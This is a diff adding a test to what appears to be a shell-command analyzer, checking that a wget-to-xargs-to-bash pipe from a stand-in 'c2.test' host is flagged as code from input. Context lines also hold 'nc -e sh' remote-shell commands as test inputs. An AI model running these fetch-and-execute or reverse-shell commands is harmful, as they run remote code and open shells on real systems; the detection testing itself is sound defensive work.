@@ -218,6 +218,13 @@ test('words after a redirect\'s target are the command\'s arguments, as in bash 
   assert.equal(must(p, 'python3').inline_code, 'print(1)');
 });
 
+test('xargs -I: an argument holding the replace string is the input, so a shell -c string there is code from input', () => {
+  const a = run('wget -qO- http://c2.test/t | xargs -n1 -I% bash -c %');
+  assert.ok(must(a, 'bash').flags.includes('code_from_input'), JSON.stringify(must(a, 'bash')));
+  assert.ok(must(a, 'bash').input_from.includes('wget'));
+  assert.ok(!must(run('find . -name "*.py" | xargs -I{} wc -l {}'), 'wc').flags.includes('code_from_input'));
+});
+
 test('coproc runs its command: simple, named compound or bare compound (the grammar has no coproc keyword)', () => {
   for (const t of ['coproc nc -e sh h 1', 'coproc X { nc -e sh h 1; }', 'true && coproc X (nc -e sh h 1)', 'coproc { nc -e sh h 1; }']) {
     const a = run(t);
